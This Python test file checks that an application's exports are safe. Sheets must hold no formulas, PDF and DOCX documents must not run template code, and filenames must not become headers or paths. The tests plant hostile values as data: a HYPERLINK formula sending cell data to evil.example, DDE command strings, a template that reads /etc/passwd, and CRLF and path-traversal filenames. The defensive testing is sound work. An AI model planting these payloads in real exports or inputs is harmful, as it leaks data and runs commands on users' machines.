"""Files that are taken away: no cell is a formula, no name a header, nothing in a document is read as its template's code."""

import csv
import io
import re
import zipfile

import pytest
from httpx2 import Response
from pypdf import PdfReader
from sqlalchemy import text

from tests.access.rows import ROWS
from tests.access.table import Row
from tests.access.world import World
from tests.attacks.marked import KEPT
from tests.attacks.test_every_answer import faults

READS = [row for row in ROWS if not row.changes]
FORMULAS = ('=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1")  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝")
SHEET = re.compile(r"text/csv|spreadsheetml")
CODE = '#read("/etc/passwd") #include "x.typ" #eval("1+1") $x^2$ *b* {{ 7*7 }} <w:t>'


def say(world: World, said: str) -> None:
    """Have everybody and everything called so."""
    world.dirty = True
    with world.here.db.writing() as session:
        for table, names in KEPT.items():
            for name in set(names) - {"language", "subject", "filename"}:
                session.connection().execute(text(f'UPDATE "{table}" SET "{name}" = :said || rowid'), {"said": said})


@pytest.fixture(scope="module")
def givers(built: World) -> list[tuple[Row, str, str]]:
    """Every route that gives a sheet to one who may have it, by what the route table's reads answer."""
    built.as_built()
    found = []
    for row in READS:
        for role in set(row.may.split()) - {"nobody"}:
            which = next((one for one in row.named() if row.lets_through(role, one)), None)
            if which is not None and SHEET.search(built.send(row, role, which).headers.get("content-type", "")):
                found.append((row, role, which))
    return found


def cells(answer: Response) -> set[str]:
    """The cells of a sheet that are not numbers; of a workbook none, once it holds no formula and leads nowhere."""
    if "csv" in answer.headers["content-type"]:
        rows = csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")))
        return {cell for row in rows for cell in row if not is_number(cell)}
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith(".xml")}
    assert not [name for name, part in parts.items() if re.search(r"<f[ >]|<ddeLink|externalLink", part)]
    return set()


def is_number(cell: str) -> bool:
    return bool(re.fullmatch(r"[+-]?\d+(\.\d+)?", cell))


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_no_cell_of_any_sheet_is_a_formula(world: World, givers: list[tuple[Row, str, str]], formula: str) -> None:
    say(world, formula)
    assert len(givers) >= 8, givers
    found = {(str(row), cell) for row, role, which in givers for cell in cells(world.send(row, role, which))}
    assert not [one for one in found if one[1].startswith(STARTS)]
    assert [one for one in found if formula.strip() in one[1]], "it stood in none"


def printed(content: bytes, kind: str) -> str:
    """The words of a PDF or a DOCX."""
    if kind == "application/pdf":
        return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        names = [name for name in package.namelist() if name.endswith(".xml")]
        return " ".join(package.read(name).decode() for name in names)


def test_what_people_write_is_no_code_in_a_letter_a_plan_or_a_pack(world: World) -> None:
    say(world, CODE)
    seen = 0
    for row in READS:
        if "{form}" not in row.path and not row.path.endswith("/copy"):
            continue
        role = row.may.split()[0]
        which = next(one for one in row.named() if row.lets_through(role, one))
        answer = world.send(row, role, which)
        assert answer.status_code == 200, f"{row}: {answer.text[:300]}"
        kind = answer.headers["content-type"]
        if "pdf" in kind or "wordprocessingml" in kind:
            words = printed(answer.content, kind)
            assert "root:" not in words
            seen += "#read(" in re.sub(r"\s", "", words)
            assert faults(answer) == []
    assert seen >= 2


@pytest.mark.parametrize(
    "name", ["a\r\nSet-Cookie: x=1\r\n.txt", 'a";x="b.txt', "../../../etc/passwd.txt", "..\\..\\x.txt", "a\x00.txt", "é\u202etxt.exe.txt", "a" * 300 + ".txt", "<img src=x>.txt"]
)  # fmt: skip
def test_the_name_of_a_file_is_no_header_and_no_path(world: World, name: str) -> None:
    """Put in by one, fetched by every route that gives it."""
    with world.here.db.writing() as session:
        session.connection().execute(text("UPDATE document SET filename = :said"), {"said": name})
    world.dirty = True
    given = 0
    for row in READS:
        if row.of is None or row.of.id_of != "document_id":
            continue
        role = next(role for role in row.may.split() if row.lets_through(role, "own"))
        answer = world.send(row, role, "own")
        assert answer.status_code == 200
        assert faults(answer) == []
        said = answer.headers["content-disposition"]
        plain = re.fullmatch(
            r'attachment; filename="([^"\\/\r\n\x00<>]*)"; filename\*=UTF-8\'\'[A-Za-z0-9%._~-]*', said
        )
        assert plain, said
        assert "set-cookie" not in answer.headers
        given += 1
    assert given >= 5
